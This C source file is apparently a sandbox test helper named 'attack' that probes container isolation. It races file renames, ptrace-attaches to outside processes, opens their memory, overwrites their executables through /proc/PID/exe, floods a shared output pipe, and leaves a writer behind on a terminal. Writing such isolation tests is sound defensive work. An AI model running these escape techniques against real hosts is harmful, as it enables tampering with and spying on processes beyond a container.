/* What a hostile program tries, from inside a container or beside it. It reports what it achieved; silence is safety.
 *
 *      attack swap SECONDS A B          exchange two names as fast as it can (renameat2 EXCHANGE)
 *      attack put SECONDS FILE NAME     give the file that name, instead of whatever has it, and take it away again
 *      attack spy SECONDS PREFIX        watch every other process of /proc whose program does not lie below PREFIX:
 *                                       "attached EXE", "fd EXE TARGET", "memory EXE"
 *      attack overwrite SECONDS PREFIX  get hold of the programs of such processes through /proc/PID/exe and write
 *                                       into them as soon as they can be opened: "overwrote EXE"
 *      attack drink PROCESSES DONE      as many read from our own standard output, which shall wait for whoever else
 *                                       reads from it, too; makes the file DONE when much was written to it, never ends
 *      attack linger STATUS LETTER      end with STATUS, and leave somebody behind who goes on writing that letter to
 *                                       the terminal that was ours
 *
 * The first four print "ready" first. */
#include <ctype.h>
#include <dirent.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static time_t end_of_work;

static bool time_is_left(void)
{
        struct timespec now;

        clock_gettime(CLOCK_MONOTONIC, &now);
        return now.tv_sec < end_of_work;
}

static void start_work(const char *seconds)
{
        struct timespec now;

        clock_gettime(CLOCK_MONOTONIC, &now);
        end_of_work = now.tv_sec + atoi(seconds);
        if (write(1, "ready\n", 6) < 0)
                exit(1);
}

static int swap(const char *a, const char *b)
{
        while (time_is_left())
                for (int i = 0; i < 1000; i++)
                        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
                                err(1, "attack: exchange %s and %s", a, b);
        return 0;
}

static int put(const char *file, const char *name)
{
        char draft[4096];

        snprintf(draft, sizeof(draft), "%s.draft", name);
        while (time_is_left()) {
                if (link(file, draft) < 0 || rename(draft, name) < 0)
                        err(1, "attack: give %s the name %s", file, name);
                unlink(name);
        }
        return 0;
}

/* Calls act for each process but ourselves and the first, with its /proc directory. */
static void each_process(void (*act)(int pid, const char *directory, const char *prefix), const char *prefix)
{
        DIR *dir = opendir("/proc");
        struct dirent *entry;
        char path[300];

        while (dir && (entry = readdir(dir))) {
                int pid = isdigit((unsigned char)entry->d_name[0]) ? atoi(entry->d_name) : 0;

                if (pid <= 1 || pid == getpid())
                        continue;
                snprintf(path, sizeof(path), "/proc/%d", pid);
                act(pid, path, prefix);
        }
        if (dir)
                closedir(dir);
}

/* The program's name; false when it is the container's own, or hidden from us. */
static bool is_foreign(const char *directory, const char *prefix, char exe[4096])
{
        char path[320];

        snprintf(path, sizeof(path), "%s/exe", directory);
        ssize_t n = readlink(path, exe, 4095);

        if (n <= 0)
                return false;
        exe[n] = '\0';
        return strncmp(exe, prefix, strlen(prefix)) != 0;
}

static void list_descriptors(const char *directory, const char *exe)
{
        char path[320], link[600], target[4096];
        struct dirent *entry;
        DIR *dir;

        snprintf(path, sizeof(path), "%s/fd", directory);
        dir = opendir(path);
        while (dir && (entry = readdir(dir))) {
                snprintf(link, sizeof(link), "%s/%s", path, entry->d_name);
                ssize_t n = readlink(link, target, sizeof(target));

                if (n > 0)
                        printf("fd %s %.*s\n", exe, (int)n, target);
        }
        if (dir)
                closedir(dir);
}

static void spy_on(int pid, const char *directory, const char *prefix)
{
        char exe[4096], path[320];
        int fd;

        if (!is_foreign(directory, prefix, exe))
                return;
        list_descriptors(directory, exe);
        snprintf(path, sizeof(path), "%s/mem", directory);
        fd = open(path, O_RDWR | O_CLOEXEC);
        if (fd >= 0) {
                printf("memory %s\n", exe);
                close(fd);
        }
        if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0) {
                waitpid(pid, NULL, __WALL);
                if (is_foreign(directory, prefix, exe)) /* now it stands still: still not the container's own? */
                        printf("attached %s\n", exe);
                ptrace(PTRACE_DETACH, pid, NULL, NULL);
        }
        fflush(stdout);
}

#define HELD_MAX 64

static struct {
        int fd;
        char exe[4096];
} held[HELD_MAX];
static int n_held;

static void grab(int pid, const char *directory, const char *prefix)
{
        char path[320], exe[4096];

        (void)pid;
        if (n_held == HELD_MAX || !is_foreign(directory, prefix, exe))
                return;
        snprintf(path, sizeof(path), "%s/exe", directory);
        held[n_held].fd = open(path, O_RDONLY | O_CLOEXEC);
        if (held[n_held].fd >= 0)
                memcpy(held[n_held++].exe, exe, sizeof(exe));
}

static void write_into_held(void)
{
        char path[64];

        for (int i = 0; i < n_held; i++) {
                snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
                int fd = open(path, O_WRONLY | O_CLOEXEC);

                if (fd < 0)
                        continue;
                if (write(fd, "overwritten", 11) == 11) {
                        printf("overwrote %s\n", held[i].exe);
                        fflush(stdout);
                }
                close(fd);
        }
}

static void drink(void)
{
        char buffer[65536];

        while (read(1, buffer, sizeof(buffer)) >= 0 || errno == EAGAIN)
                ;
        for (;;)
                pause();
}

static int drink_output(int processes, const char *done)
{
        fcntl(1, F_SETFL, fcntl(1, F_GETFL) & ~O_NONBLOCK);
        for (int i = 0; i < processes; i++)
                if (fork() == 0)
                        drink();
        for (int i = 0; i < 100000; i++)
                if (write(1, "x", 1) < 0)
                        err(1, "attack: write");
        if (creat(done, 0644) < 0)
                err(1, "attack: %s", done);
        for (;;)
                pause();
}

/* Without the session, whose end would hang the terminal up. */
static int leave_behind(int status, char letter)
{
        char letters[1024];
        pid_t leader = getpid();

        memset(letters, letter, sizeof(letters));
        signal(SIGHUP, SIG_IGN);
        if (ioctl(1, TIOCNOTTY) < 0)
                err(1, "attack: leave the terminal");
        if (fork() != 0)
                return status;
        while (getppid() == leader)
                usleep(1000);
        while (write(1, letters, sizeof(letters)) > 0)
                ;
        return 0;
}

int main(int argc, char **argv)
{
        const char *verb = argc > 3 ? argv[1] : "";

        if (strcmp(verb, "swap") == 0 && argc == 5) {
                start_work(argv[2]);
                return swap(argv[3], argv[4]);
        }
        if (strcmp(verb, "put") == 0 && argc == 5) {
                start_work(argv[2]);
                return put(argv[3], argv[4]);
        }
        if (strcmp(verb, "linger") == 0)
                return leave_behind(atoi(argv[2]), argv[3][0]);
        if (strcmp(verb, "drink") == 0)
                return drink_output(atoi(argv[2]), argv[3]);
        if (strcmp(verb, "spy") == 0) {
                start_work(argv[2]);
                while (time_is_left())
                        each_process(spy_on, argv[3]);
                return 0;
        }
        if (strcmp(verb, "overwrite") == 0) {
                start_work(argv[2]);
                while (time_is_left()) {
                        each_process(grab, argv[3]);
                        write_into_held();
                }
                printf("held %d\n", n_held);
                return 0;
        }
        errx(2, "usage: attack swap|put|spy|overwrite SECONDS ..., attack drink PROCESSES DONE, attack linger STATUS "
                "LETTER");
}
